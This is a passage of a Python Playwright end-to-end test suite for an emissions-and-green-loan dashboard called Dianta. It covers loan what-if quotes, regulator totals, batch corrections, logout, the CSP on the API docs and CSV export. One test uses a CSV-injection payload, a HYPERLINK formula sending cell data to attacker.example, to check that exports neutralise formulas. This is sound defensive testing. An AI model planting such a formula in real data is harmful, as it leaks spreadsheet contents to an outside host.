                                                     "cap_bp": 165, "grade_discount_bp": {"1": 60, "2": 40, "3": 20},
                                                     "score_link": {"base_score": 70, "bp_per_point": 1}}
                   ).raise_for_status()
    w = _api(service, "ent_a", f"/accounts/{A}/{YEAR}/what-if", bank_id="BANK-A", base_rate_pct=3.45, on="2024-03-01")
    assert (w["quote_now"]["discount_bp"], w["quote_next_grade"]["discount_bp"], w["discount_gain_bp"]) == (50, 75, 25)
    session.login("ent_a")
    session.ready("my-account")
    session.go("improve")
    expect(_card(page, "extra_green")).to_have_text("270.0 MWh")
    page.select_option("#whatif-bank", "BANK-A")
    page.fill("#whatif-rate", "3.45")
    page.fill("#whatif-on", "2024-03-01")
    page.click("#whatif-form button[type=submit]")
    expect(_card(page, "discount_now")).to_have_text("50 bp")
    expect(_card(page, "discount_next")).to_have_text("75 bp")
    expect(_card(page, "discount_gain")).to_have_text("+25 bp")
    expect(page.locator('.card[data-field="discount_now"] .card-extra')).to_have_text("Final rate: 2.95 %")
    expect(page.locator('.card[data-field="discount_next"] .card-extra')).to_have_text("Final rate: 2.70 %")
    expect(page.locator("#whatif-reasons li")).to_have_text(w["quote_now"]["reasons"])
    session.shot("enterprise-improve-bank")


def test_regulator_programme_totals(session: Session, service: Service) -> None:
    """The programme totals page shows the API's figures: loans, amounts and interest saved, by bank and month
    (after test_bank_prices_a_loan_with_its_policy: bank A's priced loan)."""
    page = session.page
    through = "2024-01-31"
    today = _api(service, "regulator", "/programme/totals")
    totals = _api(service, "regulator", "/programme/totals", through=through)
    assert totals["totals"]["loans"] >= 1 and totals["totals"]["interest_saved_cny"] >= 4305.55
    session.login("regulator")
    session.ready("statistics")
    session.go("programme")
    expect(page.locator("#programme-body")).to_have_attribute("data-through", today["through"])
    expect(_card(page, "loans")).to_have_text(f"{today['totals']['loans']:,.0f}")
    expect(_card(page, "interest_saved")).to_have_text(_wan(today["totals"]["interest_saved_cny"]))
    page.fill("#programme-through", through)
    page.click("#programme-form button[type=submit]")
    expect(page.locator("#programme-body")).to_have_attribute("data-through", through)
    expect(_card(page, "enterprises_with_accounts")).to_have_text(str(totals["enterprises_with_accounts"]))
    expect(_card(page, "loans")).to_have_text(f"{totals['totals']['loans']:,.0f}")
    expect(_card(page, "principal")).to_have_text(_yi(totals["totals"]["principal_cny"]))
    expect(_card(page, "outstanding")).to_have_text(_yi(totals["totals"]["outstanding_cny"]))
    expect(_card(page, "interest_saved")).to_have_text(_wan(totals["totals"]["interest_saved_cny"]))
    bank_a = next(g for g in totals["by_bank"] if g["group"] == "BANK-A")
    row = page.locator("#programme-by-bank tbody tr", has_text="BANK-A")
    expect(row.locator("td")).to_have_text([
        "甲银行 (BANK-A)", str(bank_a["loans"]), str(bank_a["borrowers"]), str(bank_a["borrowers_with_accounts"]),
        f"{bank_a['principal_cny'] / 1e8:,.2f}", f"{bank_a['outstanding_cny'] / 1e8:,.2f}",
        f"{bank_a['interest_saved_cny'] / 1e4:,.2f}"])
    expect(page.locator("#programme-by-month tbody tr")).to_have_count(len(totals["by_month"]))
    session.charts_drawn()
    session.shot("regulator-programme")


def test_operator_batches_findings_and_recalculation(session: Session, service: Service) -> None:
    page = session.page
    batches = _api(service, "operator", "/batches")["items"]
    assert len(batches) >= 2  # the province's two, and any loan a bank recorded before
    session.login("operator")
    session.ready("batches")
    rows = page.locator("table.data tbody tr")
    expect(rows).to_have_count(len(batches))
    expect(rows.first.locator("td").first).to_have_text(str(batches[0]["batch_id"]))
    session.shot("operator-batches")
    page.click(f"table.data a:text-is('{batches[0]['batch_id']}')")
    session.ready("batch")
    findings = _api(service, "operator", f"/batches/{batches[0]['batch_id']}/findings")
    if findings:
        expect(page.locator("#batch-findings tbody tr")).to_have_count(len(findings))
    else:
        expect(page.locator("#batch-findings .msg")).to_have_text("This batch has no findings.")
    counts = batches[0]["counts"]
    expect(page.locator(".panel:has(h2:text-is('Rows per table')) tbody tr")).to_have_count(len(counts))
    session.shot("operator-batch")
    session.go("quarantine")
    expect(page.locator("#main")).to_contain_text(
        "The quarantine is empty." if not _api(service, "operator", "/quarantine") else "Quarantine")
    session.go("compute")
    stale = page.locator("#stale-accounts")
    expect(stale.locator(".msg")).to_have_text("No account is marked for recalculation.")
    # a correction of A's 2023 value added marks A's accounts of 2023 and of the next year for recalculation
    with service.client("operator") as c:
        r = c.post("/api/v1/batches", data={"reason": "value added corrected"},
                   files=[("files", ("economics.csv", f"credit_code,year,value_added_10k_cny\n{A},{YEAR},1100\n"))])
        assert r.status_code == 201, r.text
    assert r.json()["counts"]["economics"]["corrected"] == 1
    assert _api(service, "operator", "/accounts/stale") == [{"credit_code": A, "year": YEAR},
                                                           {"credit_code": A, "year": YEAR + 1}]
    session.go("corrections")
    expect(page.locator("table.data tbody tr")).to_have_count(1)
    expect(page.locator("table.data tbody tr").first).to_contain_text("value added corrected")
    session.go("compute")
    expect(stale.locator("tbody tr")).to_have_text([f"{A}{YEAR}", f"{A}{YEAR + 1}"])
    page.fill("#compute-year", str(YEAR))
    page.click("#compute-form button[type=submit]")
    expect(page.locator("#compute-result .msg")).to_contain_text("8 accounts published.")
    # the run settled A/2023; A/2024 waits for the 2024 run
    expect(stale.locator("tbody tr")).to_have_text([f"{A}{YEAR + 1}"])
    assert _api(service, "operator", "/accounts/stale") == [{"credit_code": A, "year": YEAR + 1}]
    session.charts_drawn()
    session.shot("operator-compute")
    # the operator sees every account; a listed grade shows the flags that qualify it (§7b: E's intensity is on
    # revenue), A's none
    session.go("search")
    expect(page.locator("#search-count")).to_have_text("Accounts found: 8")
    rows = page.locator("table.data tbody tr")
    expect(rows.filter(has_text=E).locator(".grade-flag")).to_have_text(["intensity on revenue, not value added"])
    expect(rows.filter(has_text=A).locator(".grade-flag")).to_have_count(0)


def test_logout_revokes_the_token(session: Session, service: Service) -> None:
    page = session.page
    session.login("ent_b")
    session.ready("my-account")
    token = page.evaluate("sessionStorage.getItem('dianta.token')")
    assert token
    page.click("#logout")
    expect(page.locator("#login-form")).to_be_visible()
    assert page.evaluate("sessionStorage.getItem('dianta.token')") is None
    assert httpx.get(service.url + "/api/v1/me", headers={"Authorization": f"Bearer {token}"}).status_code == 401


def test_findings_of_a_new_batch_reach_operator_and_enterprise(browser: Browser, service: Service) -> None:
    """A batch whose 15-minute readings of A's meter disagree with its monthly total: warnings about A, listed in
    the operator's batch page and in A's data-quality page (runs last: it adds a batch)."""
    meter = f"M{A[-3:]}"
    readings = "meter_id,ts,kwh\n" + "".join(f"{meter},2024-01-01T00:{m:02d}:00,1\n" for m in (0, 15, 30, 45))
    with service.client("operator") as c:
        r = c.post("/api/v1/batches", data={"reason": "dashboard test"},
                   files=[("files", ("consumption_monthly.csv", f"meter_id,month,kwh\n{meter},2024-01,1000\n")),
                          ("files", ("interval_readings.csv", readings))])
        assert r.status_code == 201, r.text
    batch_id = r.json()["batch_id"]
    findings = _api(service, "operator", f"/batches/{batch_id}/findings")
    about_a = _api(service, "ent_a", f"/enterprises/{A}/findings")
    assert findings and about_a and {f["code"] for f in about_a} <= {f["code"] for f in findings}

    operator = Session(browser, service, "en")
    operator.login("operator")
    operator.ready("batches")
    rows = operator.page.locator("table.data tbody tr")  # newest first
    expect(rows).to_have_count(len(_api(service, "operator", "/batches")["items"]))
    expect(rows.first.locator("td").first).to_have_text(str(batch_id))
    operator.page.click(f"table.data a:text-is('{batch_id}')")
    operator.ready("batch")
    rows = operator.page.locator("#batch-findings tbody tr")
    expect(rows).to_have_count(len(findings))
    expect(rows.first).to_contain_text(findings[0]["message_en"])
    expect(operator.page.locator('.card[data-field="warnings"] .card-value')).to_have_text(str(len(findings)))
    operator.shot("operator-findings")
    operator.close()

    enterprise = Session(browser, service, "zh")
    enterprise.login("ent_a")
    enterprise.ready("my-account")
    enterprise.go("findings")
    rows = enterprise.page.locator("table.data tbody tr")
    expect(rows).to_have_count(len(about_a))
    expect(rows.first).to_contain_text(about_a[0]["message_zh"])
    expect(rows.first).to_contain_text("警告")
    enterprise.shot("enterprise-findings")
    enterprise.close()


def test_api_docs_render_from_our_own_origin(browser: Browser, service: Service) -> None:
    """Issue 12: /api/v1/docs loaded Swagger UI from a CDN, with an inline script, both refused by the CSP (a
    blank page). Its assets are shipped: every operation of the OpenAPI renders, nothing is fetched from another
    origin and no CSP violation is reported."""
    spec = httpx.get(service.url + "/api/v1/openapi.json").json()
    operations = sum(len(methods) for methods in spec["paths"].values())
    s = Session(browser, service, "")
    page = s.page
    page.add_init_script("window.cspViolations = []; document.addEventListener('securitypolicyviolation', "
                         "(e) => window.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));")
    response = page.goto(service.url + "/api/v1/docs")
    assert response is not None and "script-src" not in response.headers["content-security-policy"]
    assert "default-src 'self'" in response.headers["content-security-policy"]
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Dianta 电碳 API")
    expect(page.locator(".swagger-ui .opblock")).to_have_count(operations)
    page.locator(".swagger-ui .opblock-summary-path[data-path='/api/v1/me']").first.click()
    expect(page.locator(".swagger-ui .opblock.is-open .responses-table").first).to_be_visible()
    s.shot("api-docs")
    assert page.evaluate("window.cspViolations") == []
    foreign = [u for u in s.urls if not u.startswith(service.url + "/") and not u.startswith("data:")]
    assert foreign == [], foreign
    s.close()  # no console error (a CSP refusal is one)


def test_dashboard_csv_neutralises_formulas(browser: Browser, service: Service) -> None:
    """Issue 12 item 6: the CSV the dashboard writes itself neutralises text that starts like a spreadsheet
    formula (= + - @ TAB CR) with a leading quote, as the server's exports do (safe_text); numbers stay numbers.
    A batch whose reason is a formula, shown in the operator's batch list and exported from it (runs last: it
    adds a batch)."""
    reason = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    with service.client("operator") as c:
        r = c.post("/api/v1/batches", data={"reason": reason},  # a new monthly total of A's meter
                   files=[("files", ("consumption_monthly.csv", f"meter_id,month,kwh\nM{A[-3:]},2024-02,900\n"))])
        assert r.status_code == 201, r.text
    batch_id = r.json()["batch_id"]
    assert batch_id is not None
    s = Session(browser, service, "en")
    page = s.page
    s.login("operator")
    s.ready("batches")
    expect(page.locator("table.data tbody tr").first).to_contain_text(reason)  # shown as it is on the page
    with page.expect_download() as download:
        page.click("button:has-text('Export CSV')")
    assert download.value.suggested_filename == "batches.csv"
    _, table = _csv(download.value.path())
    row = next(row for row in table[1:] if row[0] == str(batch_id))
    assert row[table[0].index("Reason")] == "'" + reason
    # every formula start, as the server's safe_text; numbers (a negative one too) and other text unchanged
    text = page.evaluate("""async () => { const {csv} = await import('./ui.js');
        return csv(['text', 'value'], [['=1+2', -5], ['+1', 3.5], ['-1', null], ['@SUM(A1)', 'ok'],
                                       ['\\tx', 'a,b'], ['\\rx', '-'], ['a=b', 0]]); }""")
    assert text == ("\ufefftext,value\r\n'=1+2,-5\r\n'+1,3.5\r\n'-1,\r\n'@SUM(A1),ok\r\n'\tx,\"a,b\"\r\n"
                    "\"'\rx\",'-\r\na=b,0\r\n")
    s.close()
